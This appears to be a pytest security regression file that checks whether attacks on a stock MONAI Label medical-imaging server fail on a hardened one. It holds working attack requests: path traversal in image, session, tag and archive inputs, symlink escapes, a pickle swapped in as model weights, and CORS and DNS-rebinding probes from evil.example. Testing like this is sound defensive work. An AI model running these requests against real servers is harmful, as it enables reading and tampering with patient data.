"""Attacks that succeed on a stock MONAI Label server and fail here: the same requests are sent to both.

What is attacked is what the stock server is known to leave open: where images, tags, labels and sessions lie, what is
unpacked, which web pages may ask, and that nobody needs a token. Its DICOMweb proxy is not among it, as a stock server with an
archive needs a program from the internet to start; `test_confinement`, `test_roles` and `tests/serving/dicom` ask ours.
"""

from __future__ import annotations

import json
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import requests
from attacks import SECRET, packed, raw_request

EVIL = "http://evil.example"


@dataclass(frozen=True)
class Attacked:
    """A server to attack: `image` is a scan of `home / "studies"`, and `mask` a label as clients send it."""

    url: str
    home: Path
    inferer: str
    image: str
    mask: bytes
    headers: dict[str, str] = field(default_factory=dict)

    def ask(self, method: str, path: str, **arguments: Any) -> requests.Response:
        headers = {**self.headers, **arguments.pop("headers", {})}
        return requests.request(method, f"{self.url}{path}", headers=headers, timeout=60, **arguments)

    def infer(self, params: dict | None = None, **query: str) -> requests.Response:
        return self.ask("POST", f"/infer/{self.inferer}", params={"output": "json", **query}, data={"params": json.dumps(params or {})})

    def upload(self, path: str, name: str, content: bytes, field: str = "file", **query: str) -> requests.Response:
        return self.ask("PUT", path, params=query, files={field: (name, content)})

    def found(self, name: str) -> bool:
        """Whether a file of this name lies somewhere outside the folders for scans and sessions."""
        inside = {self.home / "studies", self.home / "work" / "sessions"}
        return any(not inside & set(file.parents) for file in self.home.rglob(name))

    @property
    def secret(self) -> Path:
        return self.home / "outside.nii.gz"


def read_any_file_as_an_image(server: Attacked) -> bool:
    return SECRET.decode() in server.infer(image=str(server.secret)).text


def read_any_file_by_the_parameters(server: Attacked) -> bool:
    return SECRET.decode() in server.infer({"image": str(server.secret)}, image=server.image).text


def read_a_file_that_a_link_leads_to(server: Attacked) -> bool:
    return SECRET.decode() in server.infer(image="leak").text


def read_any_file_by_a_session_that_the_client_wrote(server: Attacked) -> bool:
    meta = json.dumps({"name": "x", "path": "/", "image": str(server.secret), "create_ts": 1, "last_access_ts": 1, "expiry": 3600}).encode()
    files = [("files", ("meta.info", meta)), ("files", ("scan.nii.gz", server.mask))]
    session = server.ask("PUT", "/session/", files=files)
    if session.status_code != 200:
        return False
    told = session.json()
    inner = f"{told['session_id']}/{Path(told['session_info']['image']).name}"
    return SECRET.decode() in server.infer(session_id=inner).text


def get_the_scan_of_another_by_an_unknown_session(server: Attacked) -> bool:
    return server.infer(image=server.image, session_id=str(uuid.uuid4())).status_code == 200


def write_a_label_outside_by_its_tag(server: Attacked) -> bool:
    tag = f"planted-{uuid.uuid4().hex[:8]}"
    server.upload("/datastore/label", "mask.nii.gz", server.mask, "label", image=server.image, tag=f"../../{tag}")
    return (server.home / tag / f"{server.image}.nii.gz").exists()


def write_an_image_outside_by_its_id(server: Attacked) -> bool:
    server.upload("/datastore/image", "a.nii.gz", server.mask, image="../uploaded")
    return server.found("uploaded.nii.gz")


def write_a_result_outside_by_the_parameters(server: Attacked) -> bool:
    server.infer({"save_label": True, "label_tag": "../../result-tag"}, image=server.image)
    return (server.home / "result-tag").exists()


def unpack_a_file_outside(server: Attacked) -> bool:
    server.upload("/session/", "scan.tar.gz", packed("../escaped.txt"), "files", uncompress="true")
    return server.found("escaped.txt")


def unpack_a_link_that_leads_out(server: Attacked) -> bool:
    server.upload("/session/", "scan.tar.gz", packed("link", str(server.secret)), "files", uncompress="true")
    return any(file.is_symlink() for file in (server.home / "work" / "sessions").rglob("*"))


def ask_from_any_web_page_with_the_visitors_credentials(server: Attacked) -> bool:
    asked = {"Origin": EVIL, "Access-Control-Request-Method": "POST"}
    headers = server.ask("OPTIONS", f"/infer/{server.inferer}", headers=asked).headers
    return headers.get("access-control-allow-origin") == EVIL and headers.get("access-control-allow-credentials") == "true"


def save_a_program_as_a_label(server: Attacked) -> bool:
    return server.upload("/datastore/label", "a.zip", b"PK", "label", image=server.image, tag="anything").status_code == 200


def leave_an_outdated_label_beside_the_new_one(server: Attacked) -> bool:
    for name, content in (("a.nrrd", nrrd()), ("a.nii.gz", server.mask)):
        assert server.upload("/datastore/label", name, content, "label", image=server.image, tag="twice").status_code == 200
    return len(list((server.home / "studies" / "labels" / "twice").iterdir())) == 2


def overwrite_a_scan_by_another_of_its_name(server: Attacked) -> bool:
    server.upload("/datastore/image", "a.nii.gz", server.mask, image="taken")
    scan = server.home / "studies" / "taken.nii.gz"
    assert scan.exists()
    server.upload("/datastore/image", "a.nii.gz", server.mask + bytes(8), image="taken")
    return scan.read_bytes() != server.mask


def exchange_the_weights_for_a_pickle(server: Attacked) -> bool:
    return server.upload(f"/model/{server.inferer}", "model.pt", b"\x80\x04.").status_code == 200


def learn_where_scans_lie(server: Attacked) -> bool:
    return str(server.home) in server.ask("GET", "/datastore/image/info", params={"image": server.image}).text


ATTACKS = [
    read_any_file_as_an_image, read_any_file_by_the_parameters, read_a_file_that_a_link_leads_to,
    read_any_file_by_a_session_that_the_client_wrote, get_the_scan_of_another_by_an_unknown_session,
    write_a_label_outside_by_its_tag, write_an_image_outside_by_its_id, write_a_result_outside_by_the_parameters,
    unpack_a_file_outside, unpack_a_link_that_leads_out, ask_from_any_web_page_with_the_visitors_credentials,
    save_a_program_as_a_label, leave_an_outdated_label_beside_the_new_one, overwrite_a_scan_by_another_of_its_name,
    exchange_the_weights_for_a_pickle, learn_where_scans_lie,
]  # fmt: skip


@pytest.fixture
def stock_server(stock, mask_bytes) -> Attacked:
    return Attacked(stock.url, stock.home, "reads", "small-T1", mask_bytes)


@pytest.fixture
def our_server(guarded, mask_bytes) -> Attacked:
    """By somebody with the token that allows most."""
    return Attacked(guarded.url, guarded.home, "anomaly", guarded.image, mask_bytes, {"Authorization": f"Bearer {guarded.tokens['admin']}"})


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_succeeds_on_a_stock_server(stock_server, attack):
    assert attack(stock_server)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
def test_fails_here(our_server, attack):
    assert not attack(our_server)


WITHOUT_A_TOKEN = [
    ("GET", "/info/"), ("GET", "/logs/?lines=3"), ("GET", "/datastore/?output=all"), ("GET", "/train/"), ("DELETE", "/train/"),
    ("GET", "/openapi.json"), ("POST", "/reload"),
]  # fmt: skip


@pytest.mark.parametrize(("method", "path"), WITHOUT_A_TOKEN)
def test_a_stock_server_does_for_anybody_what_ours_does_for_a_token(stock, guarded, method, path):
    assert requests.request(method, f"{stock.url}{path}", timeout=60).status_code in (200, 404)
    assert requests.request(method, f"{guarded.url}{path}", timeout=60).status_code == 401


def test_anybody_may_delete_scans_of_a_stock_server(stock_server, our_server):
    for server in (stock_server, our_server):
        server.upload("/datastore/image", "a.nii.gz", server.mask, image="doomed")
        assert (server.home / "studies" / "doomed.nii.gz").exists()
        requests.delete(f"{server.url}/datastore/image", params={"id": "doomed"}, timeout=60)
    assert not (stock_server.home / "studies" / "doomed.nii.gz").exists()
    assert (our_server.home / "studies" / "doomed.nii.gz").exists()


def test_a_stock_server_answers_to_any_name_and_ours_to_its_own(stock, server):
    """By which a page of another site reaches a server of this computer (DNS rebinding)."""
    assert raw_request(stock.url, "GET", "/info/", {"Host": "evil.example"})[0] == 200
    assert raw_request(server.url, "GET", "/info/", {"Host": "evil.example"})[0] == 421


def nrrd() -> bytes:
    return b"NRRD0004\ntype: uint8\ndimension: 3\nsizes: 2 2 2\nencoding: raw\n\n" + bytes(8)
